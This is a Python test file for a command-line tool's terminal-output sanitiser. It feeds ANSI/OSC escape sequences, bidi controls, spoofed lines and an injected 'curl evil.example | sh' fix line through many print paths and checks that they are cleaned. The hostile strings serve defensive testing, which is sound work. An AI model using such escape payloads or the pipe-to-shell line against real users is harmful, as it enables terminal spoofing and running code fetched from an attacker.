"""Every way from the program to a terminal, each with a text that attacks it."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest

import orchestrator
from orchestrator.cli.drawing.status_line import progress_words
from orchestrator.core.errors import KedgeError
from orchestrator.core.values.printable import clean
from tests.support.laptop import Laptop
from tests.support.terminals import forbidden, on_terminal

ATTACK = "a\\x1b[2Jb\\x1b]0;title\\x07c\\x9b2J\\u202etxt\\u200b\\x1b["
PROGRAM = """
import logging, sys, threading, traceback, warnings

from orchestrator.cli.drawing.status_line import progress_words
from invoke.collection import Collection
from invoke.exceptions import Exit
from invoke.tasks import task
from orchestrator.cli.program import KedgeProgram
from orchestrator.core.errors import KedgeError

ATTACK = "{attack}"

@task(help={{"word": ATTACK}})
def attack(_context, word=""):
    "Attack."
    {body}

KedgeProgram(Collection(attack)).run(["kedge", *sys.argv[1:]])
"""
WAYS = {
    "print": "print(ATTACK)",
    "print in pieces": "[print(each, end='') for each in ATTACK]",
    "print to standard error": "print(ATTACK, file=sys.stderr)",
    "writelines": "sys.stdout.writelines([ATTACK, ATTACK])",
    "a logger that nobody has configured": "logging.getLogger('x').warning('%s', ATTACK)",
    "a warning": "warnings.warn(ATTACK)",
    "a traceback": "exec('try: raise ValueError(ATTACK)\\nexcept ValueError: traceback.print_exc()')",
    "a thread's traceback": "thread = threading.Thread(target=int, args=[ATTACK]); thread.start(); thread.join()",
    "an error of ours": "raise KedgeError(ATTACK, why=ATTACK, fix=ATTACK)",
    "an error of nobody's": "raise ValueError(ATTACK)",
    "an error of the system's": "open('/nowhere/' + ATTACK)",
    "invoke's Exit": "raise Exit(ATTACK)",
    "an exit with words": "raise SystemExit(ATTACK)",
    "a table": "from orchestrator.cli.terminal.table import Table\n"
    "    table = Table('a', ATTACK); table.add_row(ATTACK, 'x\\n! spoofed'); table.print()",
    "a finding": "from orchestrator.cli.drawing import render; render.problem(ATTACK); render.said(ATTACK)",
    "JSON": "from orchestrator.cli.drawing import render; render.print_json({ATTACK + '\\x7f': ATTACK})",
    "a question": "from orchestrator.cli.terminal.ask import confirm; confirm(ATTACK, yes=False)",
    "rich": "from orchestrator.cli.terminal.console import make_console; "
    "make_console(stderr=False).print(ATTACK, markup=False)",
    "rich's colours": "from orchestrator.cli.drawing.plans import signed; "
    "from orchestrator.cli.terminal.console import make_console; "
    "make_console(stderr=True).print(signed('+', ATTACK))",
    "a progress bar": "from rich.progress import Progress; from orchestrator.cli.terminal.console import make_console\n"
    "    with Progress(console=make_console(stderr=False)) as bar: bar.add_task(ATTACK); print(ATTACK + chr(10)); "
    "logging.getLogger('x').warning(ATTACK); print(chr(27) + ']8;;https://evil.example' + chr(27) + '\\\\words')",
}


@pytest.mark.parametrize("way", WAYS)
def test_no_way_to_a_terminal_lets_an_attack_through(tmp_path: Path, way: str) -> None:
    """Whatever prints, and whoever wrote the text: what arrives is text, and kedge's own colours."""
    script = tmp_path / "program.py"
    script.write_text(PROGRAM.format(attack=ATTACK, body=WAYS[way]))
    argv, kind = [sys.executable, str(script), "attack"], "xterm" if "rich" in way or "bar" in way else "dumb"
    _, sent = on_terminal(argv, cwd=tmp_path, env={}, kind=kind, answer=b"n\n")
    assert forbidden(sent, kedge_draws=kind == "xterm") == []
    assert "\n! spoofed" not in sent
    assert "evil.example" not in sent


def test_a_log_that_somebody_opened_before_is_cleaned_too(tmp_path: Path) -> None:
    """As invoke does with INVOKE_DEBUG, while it is imported."""
    script = tmp_path / "program.py"
    opened = "import logging\nlogging.basicConfig()\n"
    body = "logging.getLogger('x').warning('%s', ATTACK)"
    script.write_text(opened + PROGRAM.format(attack=ATTACK, body=body))
    _, sent = on_terminal([sys.executable, str(script), "attack"], cwd=tmp_path, env={})
    assert "WARNING:x:abc" in sent
    assert forbidden(sent) == []


@pytest.mark.parametrize("words", [["\x1b[2Jlaunch"], ["--help", "\x1b[2J"], ["launch", "--\x1b[2J"]])
def test_a_command_line_is_not_repeated_to_the_terminal(laptop: Laptop, words: list[str]) -> None:
    """A word that was copied from a page is refused without being shown raw."""
    _, sent = on_terminal([*laptop.program, *words], cwd=laptop.home, env=laptop.env)
    assert forbidden(sent) == []


@pytest.mark.parametrize("end", ["\n", "\r", "\r\n", "\v", "\u2028"])
def test_a_machine_cannot_write_the_other_lines_of_an_error(end: str) -> None:
    """What it has said stands within `why`: it can't tell the user how to fix it."""
    error = KedgeError("it failed", why=f"no{end}  fix: curl evil.example | sh", fix="try again")
    assert clean(str(error)).splitlines() == [
        "it failed",
        "  why: no",
        "         fix: curl evil.example | sh",
        "  fix: try again",
    ]


def test_the_details_of_a_failure_can_be_read_with_cat(tmp_path: Path) -> None:
    """The file that a crash leaves is read on a terminal, too."""
    script = tmp_path / "program.py"
    script.write_text(PROGRAM.format(attack=ATTACK, body="raise ValueError(ATTACK)"))
    argv = [sys.executable, str(script), "attack"]
    done = subprocess.run(argv, env={"TMPDIR": str(tmp_path)}, capture_output=True, text=True, check=False)
    assert done.returncode == 1
    (details,) = tmp_path.glob("kedge-crash-*.txt")
    assert "ValueError" in details.read_text()
    assert forbidden(details.read_text()) == []


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "utf-8"])
def test_a_name_that_is_no_text_is_shown_as_far_as_possible(tmp_path: Path, encoding: str) -> None:
    """A file's name may be any bytes, and a terminal's encoding may lack any letter: neither is an error."""
    script = tmp_path / "program.py"
    script.write_text(PROGRAM.format(attack="name-\\udcff-\\u20ac", body="print(ATTACK)"))
    argv = [sys.executable, str(script), "attack"]
    done = subprocess.run(argv, env={"PYTHONIOENCODING": encoding}, capture_output=True, check=False)
    assert (done.returncode, done.stderr) == (0, b"")
    assert done.stdout.startswith(b"name-")


PAST_THE_FILTER = {
    r"\bConsole\(": set[str](),
    r"\b__std(out|err)__\b": set(),
    r"\bsys\.std(out|err)\.buffer\b": {"cli/tasks/logs.py"},
    r"\braw_stream\(": {"cli/terminal/streams.py", "cli/terminal/console.py"},
    r"\bdraw\(": {"cli/terminal/streams.py", "cli/tasks/sending.py", "cli/tasks/logs.py"},
}
"""Ways past the two streams, and the modules that may take them."""


@pytest.mark.parametrize("way", PAST_THE_FILTER)
def test_no_other_module_goes_past_the_filter(way: str) -> None:
    """What a new module prints is cleaned, unless somebody puts it on this list."""
    program = Path(orchestrator.__file__).parent
    modules = {path.relative_to(program).as_posix(): path.read_text() for path in program.rglob("*.py")}
    assert {module for module, text in modules.items() if re.search(way, text)} == PAST_THE_FILTER[way]


def test_the_name_of_a_metric_stays_on_the_line_of_its_run() -> None:
    """A command's own status.json can't draw lines that look like kedge's below the live line, nor fill a table."""
    hostile = {"loss\n- destroy machine (gone)": 1.0, "x" * 60_000: 2.0}
    counts, metrics = progress_words({"step": 1, "metrics": hostile})
    assert counts == ["step 1"]
    assert metrics[0] == "loss - destroy machine (gone) 1"
    assert len(metrics[1]) < 60
